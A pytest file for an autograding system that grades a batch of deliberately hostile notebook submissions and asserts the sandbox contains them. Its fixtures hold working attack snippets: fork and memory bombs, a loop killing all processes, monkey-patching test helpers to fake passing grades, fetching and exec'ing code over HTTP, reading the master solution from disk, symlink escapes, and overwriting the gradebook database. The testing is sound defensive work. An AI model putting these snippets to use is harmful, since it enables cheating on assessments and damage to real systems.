"""Hostile and broken submissions, graded in one batch with correct ones.

Every fixture is made here from the master of ``00_welcome`` (one exercise, ``speedup``,
one test cell worth 2 points) by :mod:`autograde.synthetic`, with one attack or failure
each. The whole class goes through ``autograde grade`` at once (two workers, the
sandbox's default limits, shorter wall-time limits); then each submission must have its
expected status and score, the correct ones full marks, the gradebook and the other
submissions untouched, no hidden test in any feedback page, and no process, cgroup or
file of the run left behind. The table of attacks and what they get is in README.md
("Threat model").
"""

from __future__ import annotations

import http.server
import json
import shutil
import threading
from pathlib import Path

import pytest

from autograde import sandbox, synthetic
from autograde.course import Course, sha256_file
from autograde.feedback import feedback
from autograde.grading import Limits, _marked_pids, grade
from tests.test_instructor import A0, _gradebook_scores, _make_course, _points

pytestmark = [pytest.mark.grading, pytest.mark.adversarial]

MARKER = "HIDDEN-A0-MARKER-51c2e8"
LIMITS = Limits(cell_timeout_s=30, notebook_timeout_s=75)
WRONG = "def speedup(T_baseline, T_new):\n    return 1.0\n"
# finds the master's solution of speedup in a notebook's text (what an attacker would exec)
STEAL = ("def _steal(text):\n"
         "    import json\n"
         "    for c in json.loads(text)['cells']:\n"
         "        if c.get('id') == 'speedup' and 'BEGIN SOLUTION' in ''.join(c['source']):\n"
         "            return ''.join(c['source'])\n"
         "    raise LookupError('no solution here')\n")


def _solution(nb: dict) -> dict:
    return next(c for c in nb["cells"] if c.get("id") == "speedup")


def _with(solution: str | None = None, extra: str | None = None, before_test: bool = False,
          base: str = "correct") -> dict:
    """The master (or the blank notebook) with the solution cell's source replaced and/or
    one more code cell after the solution (``before_test``) or at the end."""
    nb = synthetic.correct(A0) if base == "correct" else synthetic.blank(A0)
    cell = _solution(nb)
    if solution is not None:
        cell["source"] = solution
    if extra is not None:
        new = {"cell_type": "code", "execution_count": None, "id": f"x{len(extra) % 9973}",
               "metadata": {}, "outputs": [], "source": extra}
        at = nb["cells"].index(cell) + 1 if before_test else len(nb["cells"])
        nb["cells"].insert(at, new)
    return nb


def _test_cell(nb: dict) -> dict:
    return next(c for c in nb["cells"] if c.get("id") == "test_speedup")


def _fixtures(course: Course, port: int) -> dict[str, tuple[object, str, float | None]]:
    """name -> (notebook dict, raw bytes or a callable that places it; expected status;
    expected score (None: full marks))."""
    correct = "".join(_solution(synthetic.correct(A0))["source"]) + "\n"
    master = course.master(A0)
    gradebook = course.root / "gradebook.db"
    other = course.submitted("correct_a", A0) / f"{A0}.ipynb"
    F: dict[str, tuple[object, str, float | None]] = {}
    F["correct_a"] = (synthetic.correct(A0), "ok", None)
    F["correct_b"] = (synthetic.correct(A0), "ok", None)
    F["blank"] = (synthetic.blank(A0), "ok", 0)

    # --- runaway code
    F["infinite_loop"] = (_with(correct + "\nwhile True:\n    pass\n"), "timeout", 0)
    F["swallows_interrupt"] = (_with(correct + (
        "\nwhile True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass\n")), "timeout", 0)
    F["memory_bomb"] = (_with(correct + "\nhog = []\nwhile True:\n"
                              "    hog.append(b'x' * (64 * 2**20))\n"), "memory", 0)
    F["fork_bomb"] = (_with(correct, extra=(
        "import subprocess\nkids = []\nfor _ in range(100000):\n    try:\n"
        "        kids.append(subprocess.Popen(['sleep', '1000']))\n"
        "    except OSError:\n        break\nprint(len(kids), 'processes, then refused')\n"),
        before_test=True), "ok", None)
    F["output_100mb"] = (_with(correct, extra="print('x' * 100_000_000)\n", before_test=True),
                         "ok", None)
    F["sys_exit"] = (_with(WRONG + "import sys\nsys.exit(0)\n"), "ok", 0)
    F["os_exit"] = (_with(correct + "import os\nos._exit(0)\n"), "crash", 0)
    F["kill_everything"] = (_with(correct + (
        "import os, signal\nfor p in os.listdir('/proc'):\n"
        "    if p.isdigit() and int(p) != os.getpid():\n"
        "        try:\n            os.kill(int(p), signal.SIGKILL)\n"
        "        except OSError:\n            pass\nos.kill(os.getpid(), signal.SIGKILL)\n")),
        "crash", 0)

    # --- broken or misplaced files
    F["corrupt_json"] = (b'{"cells": [ this is not json', "invalid", 0)
    F["not_a_notebook"] = (b'{"hello": "world"}', "invalid", 0)
    F["missing_notebook"] = ({"notes.txt": b"I forgot the notebook"}, "invalid", 0)
    F["renamed_notebook"] = ({f"{A0}-Copy1.ipynb": json.dumps(synthetic.correct(A0)).encode()},
                             "invalid", 0)
    F["symlink_submission"] = (("symlink", master), "invalid", 0)

    # --- tampering with the tests
    nb = _with(WRONG)
    _test_cell(nb)["source"] = "pass\n"
    F["edited_test"] = (nb, "ok", 0)
    nb = synthetic.correct(A0)
    nb["cells"].remove(_test_cell(nb))
    F["deleted_test"] = (nb, "invalid", 0)
    nb = _with(WRONG)
    dup = json.loads(json.dumps(_test_cell(nb)))
    dup["id"] = "dup"
    nb["cells"].insert(nb["cells"].index(_test_cell(nb)), dup)
    F["duplicated_test"] = (nb, "invalid", 0)
    nb = synthetic.correct(A0)
    _test_cell(nb)["metadata"]["nbgrader"]["points"] = 100
    F["changed_points"] = (nb, "invalid", 0)
    nb = synthetic.correct(A0)
    _test_cell(nb)["metadata"]["nbgrader"]["grade_id"] = "test_speedup_mine"
    F["changed_grade_id"] = (nb, "invalid", 0)
    nb = synthetic.correct(A0)
    test = _test_cell(nb)
    nb["cells"].remove(test)
    nb["cells"].insert(nb["cells"].index(_solution(nb)), test)
    F["reordered_cells"] = (nb, "invalid", 0)

    # --- lying objects and patched helpers (in the kernel)
    F["lying_eq"] = (_with(
        "class Liar(float):\n    def __eq__(self, other):\n        return True\n"
        "    __le__ = __lt__ = __ge__ = __gt__ = __eq__\n"
        "    def __bool__(self):\n        return True\n"
        "    def __float__(self):\n        return 2.0\n"
        "    def __sub__(self, other):\n        return 0.0\n"
        "def speedup(T_baseline, T_new):\n    return Liar(1.0)\n"), "ok", 0)
    F["patched_checks"] = (_with(WRONG + (
        "import course_lib.checks as checks\nfor name in checks.__all__:\n"
        "    if name.startswith('check'):\n"
        "        setattr(checks, name, lambda *a, **k: None)\n")), "invalid", 0)
    F["patched_builtins"] = (_with(WRONG + "import builtins\nbuiltins.abs = lambda x: 0.0\n"),
                             "invalid", 0)
    F["patched_numpy_testing"] = (_with(WRONG + (
        "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "import course_lib.checks as checks\nchecks.check_close = checks.check_array_close\n")),
        "invalid", 0)
    F["no_tracebacks"] = (_with(WRONG + (
        "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\n"
        "ip._showtraceback = lambda *a, **k: None\n")), "invalid", 0)
    F["input_transformer"] = (_with(WRONG + (
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['pass\\n'] if any('check_close' in ln for ln in lines) "
        "else lines)\n")), "invalid", 0)
    F["clears_its_errors"] = (_with(WRONG + (
        "from IPython.display import clear_output\n"
        "get_ipython().events.register('post_run_cell', "
        "lambda result: clear_output())\n")), "ok", 0)
    F["fake_success"] = (_with(WRONG + "print('test_speedup: all tests passed, 2/2 points')\n"),
                         "ok", 0)
    F["hardcodes_visible_tests"] = (_with(
        "def speedup(T_baseline, T_new):\n"
        "    if T_new == 0:\n        raise ValueError('T_new must be > 0')\n"
        "    return {(10.0, 5.0): 2.0, (3.0, 4.0): 0.75}.get((T_baseline, T_new), 1.0)\n"),
        "ok", 0)
    F["leaks_hidden_tests"] = (_with(WRONG + (
        "get_ipython().events.register('post_run_cell', "
        "lambda result: print(result.info.raw_cell))\n")), "ok", 0)

    # --- escaping the sandbox: network, files, processes
    F["network"] = (_with(
        f"import urllib.request\n"
        f"exec(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=5).read().decode())\n"),
        "ok", 0)
    F["reads_the_master"] = (_with(STEAL + f"exec(_steal(open({str(master)!r}).read()))\n"),
                             "ok", 0)
    F["searches_the_disk"] = (_with(STEAL + (
        "import os\nfound = None\n"
        "for top, dirs, files in os.walk('/'):\n"
        "    if top.startswith(('/proc', '/sys', '/dev', '/usr')):\n"
        "        dirs[:] = []\n        continue\n"
        "    for f in files:\n"
        "        if f.endswith('.ipynb'):\n"
        "            try:\n                found = _steal(open(os.path.join(top, f)).read())\n"
        "            except Exception:\n                pass\n"
        "exec(found)\n")), "ok", 0)
    F["symlink_escape"] = (_with(STEAL + (
        f"import os\nos.symlink({str(master.parent)!r}, 'escape')\n"
        f"exec(_steal(open('escape/{master.name}').read()))\n")), "ok", 0)
    F["writes_gradebook_and_others"] = (_with(WRONG + (
        "import sqlite3\n"
        "try:\n"
        f"    con = sqlite3.connect({str(gradebook)!r})\n"
        "    con.execute('update grade set auto_score = 100')\n    con.commit()\n"
        "except Exception as e:\n    print('gradebook:', type(e).__name__)\n"
        "try:\n"
        f"    open({str(other)!r}, 'w').write('{{}}')\n"
        "except Exception as e:\n    print('other submission:', type(e).__name__)\n")), "ok", 0)
    # `ray start` in the background (not ray.init: how long Ray takes to start on a loaded
    # machine must not decide this test), never stopped
    F["ray_left_running"] = (_with(correct, extra=(
        "import subprocess\nray = subprocess.Popen(['ray', 'start', '--head', '--block',\n"
        "    '--num-cpus=1', '--include-dashboard=false', '--object-store-memory=80000000'],\n"
        "    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n"),
        before_test=True), "ok", None)
    return F


def _place(course: Course, student: str, what) -> None:
    folder = course.submitted(student, A0)
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / f"{A0}.ipynb"
    if isinstance(what, bytes):
        target.write_bytes(what)
    elif isinstance(what, tuple) and what[0] == "symlink":
        target.symlink_to(what[1])
    elif isinstance(what, dict) and "cells" not in what:
        for name, data in what.items():
            (folder / name).write_bytes(data)
    else:
        synthetic.write(what, target)


class _Solution(http.server.BaseHTTPRequestHandler):
    body = b""

    def do_GET(self):  # noqa: N802 - the http.server API
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args):
        pass


def _leftovers(course: Course) -> list[str]:
    out = [f"process {p}" for p in _marked_pids(f"AUTOGRADE_COURSE_STATE={course.state}")]
    tag = sandbox.owner_tag(str(course.state))
    for parent in sandbox.capabilities().cgroups.values():
        out += [f"cgroup {p}" for p in parent.glob(f"ag-{tag}-*")]
    if (course.state / "jobs").exists():
        out.append(f"{course.state / 'jobs'}")
    return out


def test_hostile_submissions_get_their_status_and_nothing_more(tmp_path):
    caps = sandbox.capabilities()
    if not caps.complete:
        pytest.skip("the sandbox is incomplete here: " + "; ".join(caps.off))
    sockets_before = set(Path("/tmp").glob("agk-*"))
    course = _make_course(tmp_path, names=(A0,))
    master = course.master(A0)
    nb = json.loads(master.read_text())
    test = _test_cell(nb)
    test["source"] = "".join(test["source"]).replace(
        "### BEGIN HIDDEN TESTS", f"### BEGIN HIDDEN TESTS\n# {MARKER}", 1)
    master.write_text(json.dumps(nb, indent=1))
    course.release(log=lambda *_: None)

    correct = "".join(_solution(synthetic.correct(A0))["source"])
    _Solution.body = correct.encode()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Solution)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        fixtures = _fixtures(course, server.server_address[1])
        for student, (what, _, _) in fixtures.items():
            _place(course, student, what)
        others = {s: sha256_file(course.submitted(s, A0) / f"{A0}.ipynb")
                  for s in ("correct_a", "correct_b")}
        lines: list[str] = []
        results = {r.student: r for r in grade(course, workers=2, limits=LIMITS,
                                               log=lines.append, progress=False)}
    finally:
        server.shutdown()
    print("\n".join(lines))
    assert any("sandbox:" in ln and "bubblewrap" in ln for ln in lines), lines
    full = sum(_points(A0).values())
    wrong = []
    for student, (_, status, score) in fixtures.items():
        r = results[student]
        want = full if score is None else score
        if r.status != status or r.score != want:
            wrong.append(f"{student}: expected {status} {want:g}, got {r.status} {r.score:g} "
                         f"({r.reason})")
        if r.status != "ok":
            assert r.reason, f"{student}: a {r.status} needs a reason"
    assert not wrong, "\n".join(wrong)

    # the rest of the class is untouched
    scores = _gradebook_scores(course)
    assert scores[("correct_a", A0)] == (full, full) and scores[("correct_b", A0)] == (full, full)
    for s, sha in others.items():
        assert sha256_file(course.submitted(s, A0) / f"{A0}.ipynb") == sha, s
    assert MARKER in master.read_text()  # the master is intact
    # output was capped, hidden tests never reach feedback
    big = course.autograded("output_100mb", A0) / f"{A0}.ipynb"
    assert big.stat().st_size < 5 * 2**20, big.stat().st_size
    pages = feedback(course, log=lambda *_: None)
    assert pages
    for page in pages:
        text = page.read_text()
        assert MARKER not in text and "BEGIN HIDDEN TESTS" not in text, page
    # nothing left behind: processes, cgroups, scratch folders, kernel socket folders
    assert not _leftovers(course), _leftovers(course)
    assert not set(Path("/tmp").glob("agk-*")) - sockets_before


def test_invalid_inputs_are_recorded_without_running_anything(tmp_path):
    """Found before anything runs: a journal record with status invalid and the reason."""
    course = _make_course(tmp_path, names=(A0,))
    _place(course, "broken", b"\x00\x01 not json")
    _place(course, "renamed", {"notebook.ipynb": b"{}"})
    results = {r.student: r for r in grade(course, workers=1, log=lambda *_: None,
                                           progress=False)}
    assert results["broken"].status == "invalid" and "JSON" in results["broken"].reason
    assert results["renamed"].status == "invalid" and "renamed" in results["renamed"].reason
    assert all(r.score == 0 and r.max_score > 0 for r in results.values())
    again = grade(course, workers=1, log=lambda *_: None, progress=False)  # recorded: kept
    assert {r.student for r in again} == {"broken", "renamed"}
    shutil.rmtree(course.state / "journal")


def test_a_missing_protection_is_said_not_silent():
    caps = sandbox.Capabilities(root=False, off=[
        "network, filesystem and process isolation: bubblewrap is not installed",
        "unprivileged user and cgroups: grading is not running as root"])
    line = sandbox.describe(Limits(), caps)
    assert "sandbox: OFF:" in line and "bubblewrap is not installed" in line
    assert "not running as root" in line and "memory" not in line.split("OFF")[0]
